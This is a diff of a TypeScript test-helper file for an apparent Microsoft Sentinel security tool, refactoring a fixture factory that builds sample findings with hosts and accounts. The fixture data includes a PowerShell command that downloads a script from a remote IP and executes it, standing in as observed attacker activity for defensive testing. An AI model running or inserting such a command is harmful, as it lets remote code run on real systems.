@@ -1,5 +1,6 @@
 import type { SecurityInsights } from '@azure/arm-securityinsight';
 import type { SentinelConfig } from '../../src/config/loadConfig.js';
+import { displayEntities, entitiesFromText } from '../../src/entities/entityLists.js';
 import type { Finding } from '../../src/findings/finding.js';
 import { createSecurityInsightsClient } from '../../src/sentinel/createSecurityInsightsClient.js';
 import { httpDowngradingClient } from '../../local/http/httpDowngradingClient.js';
@@ -30,12 +31,19 @@ export function sentinelConfig(endpoint: string, overrides: Partial<SentinelConf
   };
 }
 
-export function finding(ip: string, overrides: Partial<Finding> = {}): Finding {
+/** Entity lists given as display texts, as fixtures write them. */
+export type EntityTexts = { hosts?: readonly string[]; accounts?: readonly string[] };
+
+/** A finding's hosts and accounts as display texts. */
+export const hostsOf = (f: Finding): string[] => displayEntities(f.entities).hosts;
+export const accountsOf = (f: Finding): string[] => displayEntities(f.entities).accounts;
+
+export function finding(ip: string, overrides: Partial<Omit<Finding, 'entities'>> & EntityTexts = {}): Finding {
+  const { hosts = ['web01.contoso.com'], accounts = ['CONTOSO\\alice'], ...rest } = overrides;
   return {
     ip,
     version: ip.includes(':') ? 6 : 4,
-    hosts: ['web01.contoso.com'],
-    accounts: ['CONTOSO\\alice'],
+    entities: entitiesFromText({ hosts, accounts }),
     processes: ['powershell.exe'],
     commandLines: [`powershell -c iwr http://${ip}/a.ps1 | iex`],
     commandLinesOmitted: 0,
@@ -43,7 +51,7 @@ export function finding(ip: string, overrides: Partial<Finding> = {}): Finding {
     firstSeen: new Date('2024-05-01T09:00:00Z'),
     lastSeen: new Date('2024-05-01T10:00:00Z'),
     eventCount: 3,
-    ...overrides,
+    ...rest,
   };
 }
 
